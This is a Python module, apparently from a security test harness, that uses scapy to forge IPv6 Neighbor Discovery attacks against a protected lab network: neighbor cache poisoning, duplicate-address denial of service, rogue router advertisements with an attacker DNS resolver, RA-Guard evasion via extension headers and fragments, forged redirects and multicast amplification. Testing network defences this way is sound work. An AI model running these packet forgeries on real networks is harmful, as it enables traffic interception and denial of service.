"""Neighbor Discovery (RFC 4861): the controller answers it; routers are not hosts, and hosts are no routers."""

from __future__ import annotations

from collections.abc import Iterator

from scapy.layers.inet import UDP
from scapy.layers.inet6 import (
    ICMPv6MLReport2,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6ND_RS,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptRDNSS,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
)
from scapy.packet import Padding, Raw

from attack.frames import Packet, ether
from attack.scenario import ATTACKS, Group
from attack.trial import Trial

group = Group("nd", ATTACKS)
_SUCCESS = "the forged message reaches a host, which may believe it"
_ALL_NODES, _ALL_NODES_MAC = "ff02::1", "33:33:00:00:00:01"
_LINK_LOCAL = "fe80::bad"
_ICMPV6, _FRAGMENT, _DEST_OPT = 58, 44, 60


def _targets(trial: Trial) -> Iterator[tuple[str, str, str]]:
    """Who is to believe it: everybody, and the client alone."""
    yield "to all", _ALL_NODES, _ALL_NODES_MAC
    client = trial.cast.client
    yield "to the client", trial.ip(client, 6), trial.mac(client)


def _forge(trial: Trial, label: str, src: str, message: Packet, *, extension: Packet | None = None) -> None:
    """The same message from both attackers to everybody and to the client, with a true hop limit."""
    for attacker in trial.attackers:
        for where, dst, dst_mac in _targets(trial):
            token = trial.mark(attacker, f"{label} {where} by {attacker}")
            head = IPv6(src=src, dst=dst, hlim=255)
            whole = head / extension / message if extension is not None else head / message
            trial.send(attacker, [ether(trial.mac(attacker), dst_mac) / whole / Padding(token)])


def _advertisement(trial: Trial, attacker: str) -> Packet:
    prefix = ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
    resolver = ICMPv6NDOptRDNSS(dns=["2001:db8:bad::53"])
    return ICMPv6ND_RA(prf=1) / ICMPv6NDOptSrcLLAddr(lladdr=trial.mac(attacker)) / prefix / resolver


@group.scenario(
    "nd-solicitation",
    reference="RFC 3756 §4.1.1",
    tried="a neighbor solicitation in which the server's address is said to be at the attacker's card",
    success=_SUCCESS,
    covers=("nd",),
    quick=True,
    version=6,
)
def solicitation(trial: Trial) -> None:
    """Nodes learn from the source link-layer address of questions."""
    server, client = trial.ip(trial.cast.server, 6), trial.ip(trial.cast.client, 6)
    for attacker in trial.attackers:
        option = ICMPv6NDOptSrcLLAddr(lladdr=trial.mac(attacker))
        _forge(trial, f"with {attacker}'s card", server, ICMPv6ND_NS(tgt=client) / option)


@group.scenario(
    "nd-advertisement",
    reference="RFC 3756 §4.1.1, RFC 6620",
    tried="neighbor advertisements with the override flag: the server is at the attacker's card",
    success=_SUCCESS,
    covers=("nd",),
    quick=True,
    version=6,
)
def advertisement(trial: Trial) -> None:
    """Solicited and not; from the server's address and from the attacker's own."""
    server = trial.ip(trial.cast.server, 6)
    option = ICMPv6NDOptDstLLAddr(lladdr=trial.mac(trial.cast.insider))
    for solicited in (0, 1):
        message = ICMPv6ND_NA(tgt=server, R=0, S=solicited, O=1) / option
        _forge(trial, f"S={solicited} from the server", server, message)
        _forge(trial, f"S={solicited} from its own", trial.ip(trial.cast.insider, 6), message)


@group.scenario(
    "nd-duplicate-address",
    reference="RFC 3756 §4.1.3, RFC 4862 §5.4",
    tried="solicitations from the unspecified address, and answers to them: the client must not have its address",
    success="the message reaches a host, which gives its address up",
    covers=("nd",),
    version=6,
)
def duplicate(trial: Trial) -> None:
    """Duplicate address detection as a denial of service."""
    client = trial.ip(trial.cast.client, 6)
    _forge(trial, "probe", "::", ICMPv6ND_NS(tgt=client))
    _forge(trial, "answer", client, ICMPv6ND_NA(tgt=client, R=0, S=0, O=1))


@group.scenario(
    "ra-rogue",
    reference="RFC 6104",
    tried="router advertisements with a prefix and a resolver, and the solicitations of routers",
    success="a host receives one, and takes the attacker for its router",
    covers=("ra",),
    quick=True,
    version=6,
)
def rogue_router(trial: Trial) -> None:
    """From a link-local address, as RFC 4861 §6.1.2 asks, and from another."""
    for source in (_LINK_LOCAL, trial.ip(trial.cast.insider, 6)):
        _forge(trial, f"advertisement from {source}", source, _advertisement(trial, trial.cast.insider))
    _forge(trial, "solicitation", _LINK_LOCAL, ICMPv6ND_RS())


@group.scenario(
    "ra-extension-headers",
    reference="RFC 7113 §2.1",
    tried="router advertisements behind hop-by-hop, destination and routing headers, one and several",
    success="a host receives one, past a guard that looks at the first header only",
    covers=("ra-hidden",),
    quick=True,
    version=6,
)
def hidden_router(trial: Trial) -> None:
    """What made first implementations of RA-Guard useless."""
    message = _advertisement(trial, trial.cast.insider)
    for label, extension in {
        "hop-by-hop": IPv6ExtHdrHopByHop(),
        "destination": IPv6ExtHdrDestOpt(),
        "three destinations": IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt(),
        "routing": IPv6ExtHdrRouting(type=4, segleft=0, addresses=[]),
        "atomic fragment": IPv6ExtHdrFragment(offset=0, m=0, id=7),
    }.items():
        _forge(trial, label, _LINK_LOCAL, message, extension=extension)


@group.scenario(
    "ra-fragments",
    reference="RFC 6980, RFC 7113 §2.2",
    tried="a router advertisement whose type comes in the second fragment only, behind a destination header",
    success="either fragment reaches a host",
    covers=("ra-hidden", "fragments6"),
    quick=True,
    version=6,
)
def fragmented_router(trial: Trial) -> None:
    """The first fragment shows a destination header and no ICMPv6."""
    for attacker in trial.attackers:
        for where, dst, dst_mac in _targets(trial):
            # 24 bytes of destination options, of which the first fragment has all and nothing more.
            options = bytes((_ICMPV6, 2, 1, 4)) + bytes(4) + bytes((1, 14)) + bytes(14)
            rest = bytes(_advertisement(trial, attacker))
            for label, part, more, offset in (("first", options, 1, 0), ("second", rest, 0, len(options) // 8)):
                token = trial.mark(attacker, f"{label} fragment {where} by {attacker}")
                head = IPv6(src=_LINK_LOCAL, dst=dst, hlim=255, nh=_FRAGMENT)
                fragment = IPv6ExtHdrFragment(nh=_DEST_OPT, m=more, offset=offset, id=99)
                trial.send(
                    attacker, [ether(trial.mac(attacker), dst_mac) / head / fragment / Raw(part) / Padding(token)]
                )


@group.scenario(
    "nd-redirect",
    reference="RFC 4861 §8, RFC 3756 §4.2.4",
    tried="redirects: the way to the server leads over the attacker",
    success=_SUCCESS,
    covers=("redirect",),
    quick=True,
    version=6,
)
def redirect(trial: Trial) -> None:
    """As if from a router at a link-local address, and from the server."""
    server, own = trial.ip(trial.cast.server, 6), trial.ip(trial.cast.insider, 6)
    option = ICMPv6NDOptDstLLAddr(lladdr=trial.mac(trial.cast.insider))
    for source in (_LINK_LOCAL, server):
        _forge(trial, f"from {source}", source, ICMPv6ND_Redirect(tgt=own, dst=server) / option)


@group.scenario(
    "nd-multicast-listeners",
    reference="RFC 3810",
    tried="MLD reports and mDNS to the groups that every node listens to",
    success="a host receives them",
    covers=("amplification",),
    version=6,
)
def multicast_listeners(trial: Trial) -> None:
    """Whoever answers a group amplifies."""
    _forge(trial, "MLD report", _LINK_LOCAL, ICMPv6MLReport2())
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"mDNS by {attacker}")
        datagram = IPv6(src=trial.ip(attacker, 6), dst="ff02::fb", hlim=255) / UDP(sport=5353, dport=5353)
        trial.send(attacker, [ether(trial.mac(attacker), "33:33:00:00:00:fb") / datagram / Raw(token)])
